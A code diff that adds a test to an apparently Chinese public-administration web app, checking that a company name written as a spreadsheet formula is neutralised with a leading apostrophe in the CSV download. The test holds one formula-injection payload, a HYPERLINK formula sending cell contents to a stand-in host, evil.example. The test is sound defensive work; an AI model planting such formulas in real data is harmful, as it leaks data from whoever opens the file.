@@ -154,6 +154,29 @@ def page_login(client: TestClient, username: str) -> str:
     return form_token(client)
 
 
+def test_a_name_that_is_a_formula_is_text_in_the_download(
+    lists_world: World, client: TestClient, db: Session, clock: FixedClock
+) -> None:
+    """A subject's name comes from submitted files: one written as a spreadsheet formula
+    must not run on the officer's machine when the download is opened."""
+    company = lists_world.subjects["company"]
+    company.name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    db.flush()
+    token = page_login(client, "querier")
+    download = client.post(
+        "/joint-check",
+        data={
+            "matter": "appointment",
+            "codes": company.uscc,
+            "download": "csv",
+            "csrf_token": token,
+        },
+    )
+    assert download.status_code == 200
+    (row,) = list(csv.reader(io.StringIO(download.text.lstrip("\ufeff"))))[1:]
+    assert row[3] == "'" + company.name
+
+
 def test_the_page_and_its_download_show_the_responsibility_with_the_id_masked(
     lists_world: World, client: TestClient, db: Session, clock: FixedClock
 ) -> None:
